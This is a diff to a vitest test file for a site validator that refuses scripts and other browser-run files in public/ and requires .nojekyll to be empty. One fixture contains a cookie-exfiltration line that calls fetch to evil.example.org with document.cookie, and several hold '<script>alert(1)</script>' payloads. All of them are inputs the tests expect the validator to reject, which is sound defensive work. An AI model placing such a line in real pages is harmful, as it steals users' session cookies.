@@ -3,7 +3,7 @@
  * checked (the sanitized form), namespaces are resolved, and the share-image renderer loads
  * nothing but the SVG it is given and the bundled fonts.
  */
-import { mkdirSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdirSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { logoProblems } from '../../src/validation/logo-safety.ts';
@@ -206,9 +206,43 @@ describe('public/: only an allowlist of files, every SVG checked', () => {
   );
 
   it('the allowed files pass', () => {
-    expect(publicProblems({ 'logos/gamma.svg': clean, 'favicon.svg': clean, '.nojekyll': '', 'theme.js': '' })).toEqual(
-      [],
-    );
+    expect(publicProblems({ 'logos/gamma.svg': clean, 'favicon.svg': clean, '.nojekyll': '' })).toEqual([]);
+  });
+
+  it.each([
+    ['theme.js', ''],
+    ['theme.js', '(function(){})();\nfetch("https://evil.example.org/?" + document.cookie);'],
+    ['app.mjs', 'export {}'],
+    ['sw.js', 'self.addEventListener("fetch", () => {})'],
+    ['logos/x.js', ''],
+    ['index.html', '<script>alert(1)</script>'],
+    ['page.xhtml', ''],
+    ['feed.xml', ''],
+    ['run.wasm', ''],
+  ])('no file a browser runs: public/%s is refused, whatever it holds', (rel, text) => {
+    const problems = publicProblems({ [rel]: text });
+    expect(
+      problems.filter((p) => p.startsWith(`public/${rel}:1: file:unexpected: is a file a browser runs`)),
+    ).toHaveLength(1);
+  });
+
+  it('.nojekyll must be empty', () => {
+    expect(publicProblems({ '.nojekyll': '<script>alert(1)</script>' })).toEqual([
+      'public/.nojekyll:1: file:unexpected: is not empty (expected an empty file: it only tells GitHub Pages not to run Jekyll)',
+    ]);
+  });
+
+  it('the theme script is generated from src/, byte for byte, and public/ has none', () => {
+    const root = path.join(import.meta.dirname, '../..');
+    const route = readFileSync(path.join(root, 'src/pages/theme.js.ts'), 'utf8');
+    expect(route).toContain("import theme from '../client/theme.js?raw';");
+    expect(route).toMatch(/new Response\(theme, /);
+    expect(existsSync(path.join(root, 'public/theme.js'))).toBe(false);
+    expect(
+      readdirSync(path.join(root, 'public'), { recursive: true }).filter(
+        (f) => !String(f).endsWith('.svg') && f !== 'logos',
+      ),
+    ).toEqual(['.nojekyll']);
   });
 });
 
